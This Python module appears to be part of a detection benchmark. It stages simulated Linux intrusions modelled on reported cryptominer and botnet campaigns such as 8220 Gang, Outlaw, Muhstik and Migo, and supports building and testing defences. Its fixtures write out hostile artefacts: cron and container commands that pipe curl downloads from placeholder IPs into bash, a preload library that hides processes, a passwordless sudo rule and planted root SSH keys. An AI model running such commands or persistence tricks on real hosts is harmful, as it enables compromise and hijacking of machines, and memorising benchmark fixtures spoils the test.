"""Miners, bots and what they leave so that they come back, as incident reports of 2019 to 2026 describe them (TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def eight220(host: Host) -> None:
    """T1496, T1543.002: 8220 Gang: pwnRig under four names in the system's folders, two units, a job that downloads it again."""
    for name in ("bprofr", "crondr", "initdr", "sysdr"):
        scene.put(host, f"/usr/bin/{name}", "pwnrig", mode="0755", age_s=40_000)
    scene.put(host, "/etc/init.d/pwnrig", mode="0755", age_s=40_000)
    scene.put(host, "/root/.bash_profile", "planted", age_s=40_000)
    for name in ("pwnrige.service", "pwnrigl.service"):
        scene.unit(host, name, "pwnrig", age_s=40_000)
    pid = scene.spawn(host, "/usr/bin/sysdr", "-bash", name="-bash", unit="pwnrige.service", static=True, threads=7)  # fmt: skip
    scene.connect(host, pid, "192.0.2.116", 8080)
    scene.cron(host, "/etc/cron.d/apache", "*/15 * * * *", "root (curl -s http://192.0.2.117/jira||wget -q -O - http://192.0.2.117/jira)|bash -sh")  # fmt: skip


def outlaw(host: Host) -> None:
    """T1110, T1496, T1098.004: Outlaw (Dota): a guessed password, `.configrc7` at home, the miner as kswapd00, an IRC bot as rsync."""
    uid, home = scene.uid_of(host, "deploy"), "/home/deploy/.configrc7"
    scene.put(host, f"{home}/a/kswapd00", mode="0755", uid=uid)
    miner = scene.spawn(host, f"{home}/a/kswapd00", "./kswapd00", uid=uid, cwd=f"{home}/a", static=True, threads=9)  # fmt: skip
    bot = scene.spawn(host, "/usr/bin/perl", "rsync", name="rsync", uid=uid, cwd=f"{home}/b")
    scene.connect(host, miner, "198.51.100.81", 80)
    scene.connect(host, bot, "198.51.100.82", 443)
    jobs = (
        ("1 1 */2 * *", f"{home}/a/upd>/dev/null 2>&1"),
        ("@reboot", f"{home}/a/upd>/dev/null 2>&1"),
        ("5 8 * * 0", f"{home}/b/sync>/dev/null 2>&1"),
        ("@reboot", f"{home}/b/sync>/dev/null 2>&1"),
        ("0 0 */3 * *", "/tmp/.X2q1-unix/.rsync/c/aptitude>/dev/null 2>&1"),
    )
    for when, command in jobs:
        scene.cron(host, scene.spool(host, "deploy"), when, command)
    scene.put(host, "/tmp/.X2q1-unix/.rsync/c/aptitude", mode="0755", uid=uid)
    host.remove("authorized_keys", uid=uid)
    scene.key(host, "deploy", "outlaw", comment="mdrfckr")


def muhstik(host: Host) -> None:
    """T1496, T1498: Muhstik: `pty86` in memory folders, started each minute and from inittab, steered over IRC; a miner beside it."""
    row = scene.work(host)
    uid = row["uid"]
    for path in ("/dev/shm/pty86", "/var/tmp/pty86", "/tmp/xmra64"):
        scene.put(host, path, mode="0755", uid=uid)
    bot = scene.spawn(host, "/dev/shm/pty86", "/dev/shm/pty86", uid=uid, cwd="/dev/shm", static=True)
    miner = scene.spawn(host, "/tmp/xmra64", "/tmp/xmra64", uid=uid, cwd="/tmp", static=True, threads=5)
    scene.connect(host, bot, "203.0.113.31", 2407)
    scene.connect(host, miner, "203.0.113.32", 4496)
    scene.put(host, "/etc/inittab", "0:2345:respawn:/dev/shm/pty86")
    job = "/dev/shm/pty86 > /dev/null 2>&1 &"
    scene.cron(host, scene.spool(host, scene.user_of(host, uid)), "* * * * *", job)


def redtail(host: Host) -> None:
    """T1496: RedTail: a hidden miner in a hidden folder with its pool's address inside it, a job at boot, a key for root."""
    path = f"/var/tmp/.{scene.digest('redtail', 8)}/.redtail"
    pid = scene.spawn(host, path, ".redtail", uid="0", cwd="/var/tmp", static=True, threads=4)
    scene.connect(host, pid, "198.51.100.137", 2137)
    scene.cron(host, scene.spool(host, "root"), "@reboot", path)
    scene.key(host, "root", "redtail", comment="rsa-key-20230629")


def prometei(host: Host) -> None:
    """T1543.002, T1036.004: Prometei: `uplugplay` as a daemon with a unit in the packages' folder and a job at boot."""
    scene.put(host, "/etc/CommId", "an identifier", age_s=700_000)
    scene.unit(host, "uplugplay.service", "UPlugPlay", folder=scene.unit_folder(host), age_s=700_000)
    pid = scene.spawn(
        host, "/usr/sbin/uplugplay", "/usr/sbin/uplugplay -Dcomsvc", unit="uplugplay.service", static=True, threads=6, age_s=20_000
    )  # fmt: skip
    scene.connect(host, pid, "192.0.2.38", 80)
    scene.cron(host, scene.spool(host, "root"), "@reboot", "/usr/sbin/uplugplay -cron")


def p2pinfect(host: Host) -> None:
    """T1210, T1098.004: P2PInfect: a peer among peers on high ports, its key for root, sshd set anew, the way in closed behind it."""
    pid = scene.spawn(host, "/tmp/linux", "/tmp/linux 61147", cwd="/tmp", static=True, threads=8)  # fmt: skip
    scene.listen(host, pid, 61_147)
    for last in range(60, 72):
        scene.connect(host, pid, f"192.0.2.{last}", 60_100 + 7 * last % 50)
    scene.key(host, "root", "p2pinfect", comment="")
    scene.put(host, "/etc/ssh/sshd_config", "planted", mode="0600", age_s=2_000)
    host.add("iptables", filter_name="filter", chain="INPUT", policy="ACCEPT", target="DROP", protocol=6, dst_port="6379", src_ip="0.0.0.0",
             src_mask="0.0.0.0", dst_ip="0.0.0.0", dst_mask="0.0.0.0", iniface="all", outiface="all", match="yes")  # fmt: skip


def migo(host: Host) -> None:
    """T1574.006, T1053.006: Migo: a timer called system-kernel, a preloaded libsystemd that hides it, rivals sent nowhere."""
    library = "/usr/local/lib/libsystemd.so"
    scene.put(host, "/etc/ld.so.preload", library)
    scene.put(host, library, mode="0755")
    scene.unit(host, "system-kernel.timer", "system-kernel", sub="waiting")
    scene.unit(host, "system-kernel.service", "system-kernel", state="static")
    pid = scene.spawn(host, "/tmp/.migo", "/tmp/.migo", unit="system-kernel.service", static=True, threads=10)
    scene.connect(host, pid, "203.0.113.162", 9999)
    for row in scene.named(host, "cron", "crond", "sshd")[:2]:
        scene.load(host, row["pid"], library)
    for name in ("pool.rival.example", "donate.rival.example"):
        host.add("etc_hosts", address="0.0.0.0", hostnames=name)
    scene.put(host, "/etc/hosts", "rivals", age_s=8_000)


def commando_cat(host: Host) -> None:
    """T1610, T1611, T1136.001: Commando Cat: a container of tools with the host's root, `games` made a login with sudo, a miner as docker-cache."""
    scene.container(
        host, "chattr", "docker.example/cmd.cat/chattr", "/bin/sh -c chroot /hs bash -c 'curl -s http://192.0.2.9/user.sh|bash'",
        mounts=(("/", "/hs"),),
    )  # fmt: skip
    host.change("users", {"username": "games"}, shell="/bin/bash")
    host.change("shadow", {"username": "games"}, password_status="active", hash_alg="6", last_change="20514")
    scene.key(host, "games", "games", comment="")
    host.add("sudoers", source="/etc/sudoers", header="games", rule_details="ALL=(ALL) NOPASSWD:ALL")
    scene.put(host, "/etc/sudoers", "games", mode="0440")
    host.add("etc_hosts", address="0.0.0.0", hostnames="registry.docker.example")
    scene.unit(host, "docker-cache.service", "Docker daemon cache")
    pid = scene.spawn(host, "/usr/bin/docker-cache", "/usr/bin/docker-cache", unit="docker-cache.service", static=True, threads=6)  # fmt: skip
    scene.connect(host, pid, "192.0.2.10", 443)


ATTACKS = (
    eight220,
    outlaw,
    muhstik,
    redtail,
    prometei,
    p2pinfect,
    migo,
    commando_cat,
)
